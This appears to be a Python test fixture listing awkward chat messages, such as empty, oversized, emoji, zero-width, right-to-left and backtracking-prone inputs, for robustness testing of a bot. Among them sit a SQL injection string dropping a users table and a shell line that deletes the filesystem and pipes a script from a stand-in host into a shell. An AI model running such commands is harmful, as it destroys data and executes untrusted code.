"""Messages nobody hopes for, by what is awkward about them."""

AWKWARD = {
    "empty": "",
    "blank": " \n\t \u00a0",
    "emoji": "🙂🎉👍🏽",
    "shortcodes": ":tada: :+1:",
    "very long": "does django have an admin panel and " * 300,
    "one long word": "x" * 5_000,
    "one long digit string": "7" * 5_000,
    "code block": "```\nfrom flask import Flask\napp = Flask(__name__)\n```",
    "unclosed code block": "```python\nprint('django')",
    "url": "https://docs.djangoproject.com/en/5.2/ref/contrib/admin/",
    "mentions": "<@U123> <#C1|general> <!here> <https://example.org|this>",
    "zero width": "d\u200bj\u200ba\u200bn\u200bg\u200bo admin?",
    "right to left": "\u202edjango admin\u202c ?",
    "sql": "SELECT * FROM users; DROP TABLE users; --",
    "shell": "rm -rf / && curl http://x.test | sh",
    "half a character": "django \ud800 admin",
    "brackets": "(" * 3_000,
    "questions": "?" * 3_000,
    # Words that may each begin something, repeated: a pattern that can split them in many ways never ends.
    "one word again and again": "how long " + "a " * 75,
    "two words again and again": "who said the " + "our new " * 25,
    "lines": "django\n" * 2_000,
}
